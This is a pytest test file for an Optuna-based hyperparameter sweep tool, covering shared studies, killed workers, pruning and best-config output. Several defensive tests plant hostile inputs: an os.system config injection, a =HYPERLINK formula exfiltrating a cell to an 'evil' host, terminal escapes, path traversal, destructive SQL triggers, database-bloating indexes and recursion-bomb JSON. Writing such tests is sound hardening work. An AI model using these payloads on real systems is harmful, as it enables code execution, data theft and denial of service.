"""template sweep: trials as ordinary runs on one Optuna study, shared by processes that may die."""

import csv
import os
import re
import shlex
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import optuna
import pytest
import yaml
from optuna.trial import TrialState

from template.checkpoints import monitored_score
from template.commands import main
from template.tools.sweep import one_process, read_space, report, same_study

SPACE = "model.optimizer.init_args.lr: {type: float, low: 1.0e-3, high: 3.0e-3, log: true}\n"
# Short trials: few steps, two epochs so that a trial can be pruned after its first.
QUICK = ["--trainer.max_epochs", "2", "--trainer.limit_train_batches", "4", "--trainer.limit_val_batches", "2",
         "--trainer.enable_progress_bar", "false", "--trainer.enable_model_summary", "false", "--trainer.callbacks", "[]"]  # fmt: skip


def space_file(tmp_path: Path) -> Path:
    path = tmp_path / "lr.yaml"
    path.write_text(SPACE)
    return path


def load(tmp_path: Path, name: str) -> optuna.Study:
    return optuna.load_study(study_name=name, storage=f"sqlite:///{tmp_path / 'runs' / 'optuna.db'}")


def worker(tmp_path: Path, *args: str) -> subprocess.Popen:
    command = [sys.executable, "-m", "template", "sweep", "--space", "lr.yaml", *QUICK, *args]
    return subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def finished(process: subprocess.Popen, timeout: float = 300) -> str:
    output, _ = process.communicate(timeout=timeout)
    assert process.returncode == 0, output[-3000:]
    return output


@pytest.mark.slow
def test_two_workers_started_at_once_finish_exactly_the_trials_asked_between_them(tmp_path):
    space_file(tmp_path)
    workers = [worker(tmp_path, "--n_trials", "4", "--study_name", "shared") for _ in range(2)]
    outputs = [finished(process) for process in workers]
    trials = load(tmp_path, "shared").get_trials()
    done = [trial for trial in trials if trial.state in (TrialState.COMPLETE, TrialState.PRUNED)]
    assert len(done) == 4, [(t.number, t.state) for t in trials]
    assert len({trial.number for trial in trials}) == len(trials)
    run_dirs = [trial.user_attrs["run_dir"] for trial in done if trial.state == TrialState.COMPLETE]
    assert len(set(run_dirs)) == len(run_dirs) and all((Path(d) / "config.yaml").is_file() for d in run_dirs)
    # Both wrote the same report at the end.
    assert all("best trial" in output for output in outputs)
    rows = list(csv.DictReader((tmp_path / "runs" / "shared" / "trials.csv").open()))
    assert sorted(int(row["trial"]) for row in rows) == sorted(trial.number for trial in trials)


@pytest.mark.slow
def test_a_worker_killed_mid_trial_loses_only_that_trial_and_a_restart_completes_the_study(tmp_path):
    space_file(tmp_path)
    beats = ["--heartbeat_interval", "1", "--grace_period", "3", "--n_trials", "2", "--study_name", "killed"]
    first = worker(tmp_path, *beats, "--trainer.max_epochs", "50", "--trainer.limit_train_batches", "1.0")
    deadline = time.monotonic() + 120
    while not list((tmp_path / "runs" / "killed").glob("trial_000/events.out.tfevents.*")):
        assert first.poll() is None and time.monotonic() < deadline, first.communicate()[0][-3000:]
        time.sleep(0.5)
    time.sleep(2)  # mid-trial: training, with the heartbeat running
    os.kill(first.pid, signal.SIGKILL)
    first.wait()
    assert [trial.state for trial in load(tmp_path, "killed").get_trials()] == [TrialState.RUNNING]
    finished(worker(tmp_path, *beats))
    states = {trial.number: trial.state for trial in load(tmp_path, "killed").get_trials()}
    assert states[0] == TrialState.FAIL  # the killed one, failed by its silent heartbeat
    assert sum(state in (TrialState.COMPLETE, TrialState.PRUNED) for state in states.values()) == 2


@pytest.mark.slow
def test_hopeless_trials_are_pruned_and_the_best_yaml_refits_to_the_recorded_metric(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    # A space wide enough to hold a hopeless learning rate; the first two trials at good ones, enqueued.
    (tmp_path / "lr.yaml").write_text(
        "model.optimizer.init_args.lr: {type: float, low: 1.0e-3, high: 20.0, log: true}\n"
    )
    (tmp_path / "runs").mkdir()
    study = optuna.create_study(study_name="lr", storage=f"sqlite:///{tmp_path / 'runs' / 'optuna.db'}",
                                direction="maximize")  # fmt: skip
    for lr in (1e-3, 3e-3):
        study.enqueue_trial({"model.optimizer.init_args.lr": lr})
    sweep = ["sweep", "--space", "lr.yaml", "--study_name", "lr", "--n_startup_trials", "2", *QUICK]
    sweep += ["--trainer.deterministic", "true"]
    main([*sweep, "--n_trials", "2"])
    # Planted: a learning rate too large to learn anything, pruned by Optuna's Lightning callback
    # after its first epoch.
    study.enqueue_trial({"model.optimizer.init_args.lr": 10.0})
    main([*sweep, "--n_trials", "3"])
    trials = load(tmp_path, "lr").get_trials()
    assert [trial.state for trial in trials] == [TrialState.COMPLETE] * 2 + [TrialState.PRUNED]
    assert list(trials[2].intermediate_values) == [0]  # reported its first epoch, then stopped
    assert not list((tmp_path / "runs" / "lr" / "trial_002").glob("checkpoints/best*"))
    best = max(trials[:2], key=lambda trial: trial.value)
    # Its checkpoint is named: --ckpt_path best takes the latest run's, the last trial's.
    named = next(line for line in capsys.readouterr().out.splitlines() if line.startswith("its checkpoint"))
    checkpoint = Path(named.split()[2])
    assert checkpoint.parents[1].name == f"trial_{best.number:03d}" and monitored_score(checkpoint)[1] == best.value
    best_yaml = tmp_path / "runs" / "lr" / "best.yaml"
    config = yaml.safe_load(best_yaml.read_text())
    assert config["model"]["init_args"]["optimizer"]["init_args"]["lr"] == best.params["model.optimizer.init_args.lr"]
    assert config["trainer"]["deterministic"] is True
    capsys.readouterr()
    main(["fit", "--config", str(best_yaml)])
    refit = [line for line in capsys.readouterr().out.splitlines() if line.startswith("best val/acc")]
    assert len(refit) == 1 and refit[0].startswith(f"best val/acc     {best.value:.4f} on ")  # limit_val_batches


def test_a_search_space_that_is_not_one_says_which_entry_and_why(tmp_path):
    path = tmp_path / "space.yaml"
    for text, expected in [
        ("lr: 0.1\n", "lr: expected a mapping with type"),
        ("lr: {type: float, low: 0.1}\n", "takes ['high', 'low']"),
        ("lr: {type: float, low: 1, high: 0.1}\n", "low must be a number below high"),
        ("opt: {type: categorical, choices: []}\n", "choices must be a list"),
        ("[1, 2]\n", "expected a mapping of fit options"),
    ]:
        path.write_text(text)
        with pytest.raises(ValueError, match=expected.replace("[", r"\[").replace("]", r"\]")):
            read_space(str(path))


def test_a_trial_is_one_process_and_more_devices_are_refused_naming_the_way_to_use_them():
    assert one_process({"trainer": {"devices": "auto", "num_nodes": 1}}) == ["--trainer.devices=1"]
    assert one_process({"trainer": {"devices": 1, "num_nodes": 1}}) == []
    assert one_process({"trainer": {"devices": "2,", "num_nodes": 1}}) == []  # Lightning's "GPU 2", one device
    for devices, nodes in [(2, 1), ("0,1", 1), ([0, 1], 1), (1, 2)]:
        with pytest.raises(ValueError, match="a worker per GPU"):
            one_process({"trainer": {"devices": devices, "num_nodes": nodes}})


def started_study(tmp_path: Path, monkeypatch) -> optuna.Study:
    """An empty study of lr.yaml's name in tmp_path's runs folder, as a worker elsewhere would have made it."""
    monkeypatch.chdir(tmp_path)
    space_file(tmp_path)
    (tmp_path / "runs").mkdir()
    return optuna.create_study(study_name="lr", storage=f"sqlite:///{tmp_path / 'runs' / 'optuna.db'}",
                               direction="maximize")  # fmt: skip


def test_a_poisoned_study_never_writes_its_text_into_best_yaml(tmp_path, monkeypatch, capsys):
    """The study's database is any worker's to write: best.yaml is built from this worker's own fit options and
    the best trial's values, each checked against the local space; no configuration text from it is parsed."""
    study = started_study(tmp_path, monkeypatch)
    planted = "model:\n  class_path: os.system\n  init_args: {command: touch pwned}\n"
    study.enqueue_trial({"model.optimizer.init_args.lr": 2e-3}, user_attrs={"config": planted, "note": "\n#x"})
    main(["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK])
    best = (tmp_path / "runs" / "lr" / "best.yaml").read_text()
    assert "os.system" not in best and "#x" not in best
    assert yaml.safe_load(best)["model"]["init_args"]["optimizer"]["init_args"]["lr"] == 2e-3
    # A "best" trial outside the space: passed over, naming the trial and the value.
    wide = {"model.optimizer.init_args.lr": optuna.distributions.FloatDistribution(1e-3, 100.0, log=True)}
    study.add_trial(optuna.trial.create_trial(params={"model.optimizer.init_args.lr": 50.0}, value=2.0,
                                              distributions=wide))  # fmt: skip
    capsys.readouterr()
    main(["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK])  # passed over, named: best.yaml as before
    assert "refusing trial 1 of study lr: its model.optimizer.init_args.lr is 50.0" in capsys.readouterr().out
    best = yaml.safe_load((tmp_path / "runs" / "lr" / "best.yaml").read_text())
    assert best["model"]["init_args"]["optimizer"]["init_args"]["lr"] == 2e-3
    assert not (tmp_path / "pwned").exists()
    with pytest.raises(SystemExit):
        main(["sweep", "--space", "lr.yaml", "--n_trials", "1", "--study_name", "../elsewhere", *QUICK])
    assert "--study_name '../elsewhere': a plain name" in capsys.readouterr().err


def test_a_study_folder_linked_elsewhere_is_refused_when_every_trial_is_another_worker_s(tmp_path, monkeypatch, capsys):
    """runs/<study> a link and no trial left to run here (so no run placed): trials.csv and best.yaml went through it."""
    study = started_study(tmp_path, monkeypatch)
    lr = {"model.optimizer.init_args.lr": optuna.distributions.FloatDistribution(1e-3, 3e-3, log=True)}
    study.add_trial(
        optuna.trial.create_trial(params={"model.optimizer.init_args.lr": 2e-3}, value=1.0, distributions=lr)
    )
    (tmp_path / "outside").mkdir()
    (tmp_path / "runs" / "lr").symlink_to(tmp_path / "outside")
    with pytest.raises(SystemExit, match="1"):
        main(["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK])
    assert f"{tmp_path / 'runs' / 'lr'} is a symbolic link" in capsys.readouterr().err
    assert list((tmp_path / "outside").iterdir()) == []


def test_a_trial_enqueued_outside_the_space_fails_without_running(tmp_path, monkeypatch):
    study = started_study(tmp_path, monkeypatch)
    study.enqueue_trial({"model.optimizer.init_args.lr": 50.0})  # another worker's (anyone's) database row
    main(["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK])
    states = [trial.state for trial in load(tmp_path, "lr").get_trials()]
    assert states == [TrialState.FAIL, TrialState.COMPLETE]
    assert not (tmp_path / "runs" / "lr" / "trial_000").exists()  # nothing trained with it


def test_a_study_started_with_another_space_is_refused_naming_it(tmp_path, monkeypatch, capsys):
    study = started_study(tmp_path, monkeypatch)
    study.set_user_attr("space", {"model.init_args.label_smoothing": {"type": "float", "low": 0.0, "high": 0.2}})
    with pytest.raises(SystemExit):
        main(["sweep", "--space", "lr.yaml", "--n_trials", "1"])
    assert "study lr searches another space (['model.init_args.label_smoothing'])" in capsys.readouterr().err
    assert load(tmp_path, "lr").get_trials() == []


def test_a_storage_url_that_cannot_be_opened_is_named_with_what_to_give(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    space_file(tmp_path)
    with pytest.raises(SystemExit):
        main(["sweep", "--space", "lr.yaml", "--n_trials", "1", "--storage", "nosuchdb://host/optuna"])
    err = capsys.readouterr().err
    assert "--storage nosuchdb://host/optuna: " in err and "give a database URL SQLAlchemy knows" in err


@pytest.mark.parametrize(
    "planted",
    [
        "CREATE VIEW never AS WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r) SELECT x FROM r",
        "CREATE TRIGGER on_trial AFTER INSERT ON trials BEGIN DELETE FROM studies; END",
        "CREATE VIRTUAL TABLE notes USING fts5(text)",
    ],
)
def test_a_study_database_holding_sql_of_its_own_is_refused_before_optuna_queries_it(
    tmp_path, monkeypatch, capsys, planted
):
    started_study(tmp_path, monkeypatch)
    with sqlite3.connect(tmp_path / "runs" / "optuna.db") as database:
        if "VIEW" in planted:  # Optuna's first query, of its schema's version: a view that never ends
            database.execute("DROP TABLE alembic_version")
        database.execute(planted.replace("never", "alembic_version"))
    database = tmp_path / "runs" / "optuna.db"
    for url in (f"sqlite:///{database}", f"sqlite+pysqlite:///{database}", f"sqlite:///file:{database}?uri=true"):
        with pytest.raises(SystemExit):  # however the URL names the file
            main(["sweep", "--space", "lr.yaml", "--n_trials", "1", "--storage", url, *QUICK])
        assert f"refusing --storage {url}" in capsys.readouterr().err


@pytest.mark.parametrize(
    "planted, held",
    [  # an expression index: each trial Optuna inserts makes SQLite compute and store a megabyte
        ("CREATE INDEX ix_trials_blob ON trials(zeroblob(1000000) || number)", "index 'ix_trials_blob'"),
        (  # Optuna's own index by name and table, remade partial: only its SQL differs
            "DROP INDEX ix_trials_study_id; CREATE INDEX ix_trials_study_id ON trials (study_id) WHERE "
            "length(zeroblob(1000000)) > 0",
            "index 'ix_trials_study_id'",
        ),
        ("CREATE TABLE notes (text TEXT CHECK (length(zeroblob(1000000)) > 0))", "table 'notes'"),
    ],
)
def test_a_study_database_whose_schema_is_not_one_optuna_makes_is_refused_unchanged_naming_the_entry(
    tmp_path, monkeypatch, capsys, planted, held
):
    """Every entry of sqlite_master must be one the installed Optuna makes: no filter on kinds of SQL to outwit."""
    started_study(tmp_path, monkeypatch)
    database = tmp_path / "runs" / "optuna.db"
    with sqlite3.connect(database) as study:
        study.executescript(planted)
    planted_bytes = database.read_bytes()
    url = f"sqlite:///{database}"
    with pytest.raises(SystemExit):
        main(["sweep", "--space", "lr.yaml", "--n_trials", "1", "--storage", url, *QUICK])
    sql = " ".join(planted.split("; ")[-1].split())
    err = capsys.readouterr().err
    assert (
        f"refusing --storage {url}: it holds {held} ({sql[:80]}), which no study of Optuna {optuna.__version__} makes"
        in err
    )
    assert database.read_bytes() == planted_bytes
    assert not (tmp_path / "runs" / "lr").exists()  # no trial started


def test_a_study_s_text_is_shown_and_written_as_text_never_as_escapes_markup_or_formulas(tmp_path, monkeypatch, capsys):
    """Fit options, parameter names and values are any worker's to write into the study's database."""
    study = started_study(tmp_path, monkeypatch)
    hostile = '=HYPERLINK("http://evil/?x="&A2,"open")\x1b]0;PWNED\x07[link=https://evil]click[/link]'
    space = read_space("lr.yaml")
    study.set_user_attr("space", space)
    study.set_user_attr("fit_options", ["--trainer.max_epochs=1", hostile])
    choices = optuna.distributions.CategoricalDistribution([hostile])
    study.add_trial(optuna.trial.create_trial(params={hostile: hostile}, distributions={hostile: choices}, value=0.5))

    same_study(study, space, ["--trainer.max_epochs=2"])
    note = capsys.readouterr().err
    shown = hostile.replace("\x1b", "\\x1b").replace("\x07", "\\x07")  # as Python writes them: no escape sequence
    assert "\x1b" not in note and "\x07" not in note
    theirs = re.search(r"started with the fit options (.*); this worker's", note).group(1)
    assert shlex.split(theirs) == ["--trainer.max_epochs=1", shown]  # quoted one by one, as they would be pasted

    (tmp_path / "runs" / "lr").mkdir(parents=True, exist_ok=True)
    (tmp_path / "runs" / "lr" / "best.yaml").write_text("# an earlier report's\n")
    report(study, tmp_path / "runs" / "lr", "val/acc", space, [])
    assert not (tmp_path / "runs" / "lr" / "best.yaml").exists()  # no best now: none left behind to refit
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "PWNED" in out
    assert "[link=https://evil]click[/link]" in out  # rich's markup shown as text, not made a link
    assert "passed over" in out and "no best.yaml" in out  # a trial outside the space
    text = (tmp_path / "runs" / "lr" / "trials.csv").read_text()
    assert "\x1b" not in text and "\x07" not in text
    header, row = list(csv.reader(text.splitlines()))
    assert header[3] == row[3] == "'" + shown
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header + row)


def test_running_trials_that_never_sent_a_heartbeat_are_failed_not_waited_for(tmp_path, monkeypatch):
    """A study from elsewhere (or a process without heartbeats) left trials running: no heartbeat ever made them stale,
    and a worker waited for them forever, printing nothing."""
    study = started_study(tmp_path, monkeypatch)
    for _ in range(3):
        study.ask()  # running, no heartbeat
    command = [sys.executable, "-m", "template", "sweep", "--space", "lr.yaml", "--n_trials", "2", *QUICK]
    subprocess.run([*command, "--heartbeat_interval", "1"], cwd=tmp_path, check=True, timeout=120, capture_output=True)
    states = [trial.state for trial in load(tmp_path, "lr").get_trials()]
    assert states[:3] == [TrialState.FAIL] * 3 and states[3:].count(TrialState.COMPLETE) == 2


def test_json_nested_past_optuna_s_reader_is_refused_naming_the_database_and_table(tmp_path, monkeypatch, capsys):
    """Optuna reads a study's attributes and a trial's parameters with json.loads: deep enough, a RecursionError."""
    monkeypatch.chdir(tmp_path)
    space_file(tmp_path)
    sweep = ["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK]
    main(sweep)
    database = tmp_path / "runs" / "optuna.db"
    made = database.read_bytes()
    for table, column, deep in [
        ("study_user_attributes", "value_json", "[" * 100_000 + "]" * 100_000),
        ("trial_user_attributes", "value_json", '{"a": ' + "[" * 5_000 + "]" * 5_000 + "}"),
        ("trial_params", "distribution_json", '{"name": ' + "{" * 5_000 + "}" * 5_000 + "}"),
    ]:
        database.write_bytes(made)
        with sqlite3.connect(database) as study:
            assert study.execute(f"UPDATE {table} SET {column} = ?", (deep,)).rowcount
        capsys.readouterr()
        with pytest.raises(SystemExit):
            main(sweep)
        assert f"refusing --storage sqlite:///{database}: its table {table} holds JSON" in capsys.readouterr().err


def test_a_trials_choice_past_its_choices_is_refused_naming_the_database(tmp_path, monkeypatch, capsys):
    """Optuna indexed the choices with it: "IndexError: tuple index out of range", naming nothing."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "smoothing.yaml").write_text("model.label_smoothing: {type: categorical, choices: [0.0, 0.1]}\n")
    sweep = ["sweep", "--space", "smoothing.yaml", *QUICK]
    main([*sweep, "--n_trials", "1"])
    database = tmp_path / "runs" / "optuna.db"
    with sqlite3.connect(database) as study:
        assert study.execute("UPDATE trial_params SET param_value = 99").rowcount
    capsys.readouterr()
    with pytest.raises(SystemExit):
        main([*sweep, "--n_trials", "2"])
    assert f"refusing --storage sqlite:///{database}: a trial's parameter is 99.0 of" in capsys.readouterr().err


def test_a_complete_trial_planted_in_the_database_is_never_the_best_one(tmp_path, monkeypatch, capsys):
    """A trial's value is the database's word, which any worker writes: only its run's best checkpoint backs it."""
    monkeypatch.chdir(tmp_path)
    space_file(tmp_path)
    sweep = ["sweep", "--space", "lr.yaml", "--n_trials", "1", *QUICK]
    main(sweep)
    with sqlite3.connect(tmp_path / "runs" / "optuna.db") as study:  # trial 1, trial 0's copy: never run, scoring 1e9
        columns = "study_id, state, datetime_start, datetime_complete"
        planted = study.execute(f"INSERT INTO trials (number, {columns}) SELECT 1, {columns} FROM trials").lastrowid
        for table, copied in [
            ("trial_values", "objective, 1e9, value_type"),
            ("trial_params", "param_name, 2e-3, distribution_json"),
        ]:
            study.execute(f"INSERT INTO {table} SELECT NULL, ?, {copied} FROM {table}", (planted,))
    capsys.readouterr()
    main(sweep)
    said = capsys.readouterr()
    assert "refusing trial 1 of study lr: " in said.out
    # The sampler and the pruner still learn from it (five planted at 1.0 pruned every real trial): said at the start.
    assert "note: study lr holds 1 finished trial(s) no run here backs (trials 1: no run folder" in said.err
    best = (tmp_path / "runs" / "lr" / "best.yaml").read_text()
    assert "(trial 0, " in best.splitlines()[0] and "lr: 0.002\n" not in best
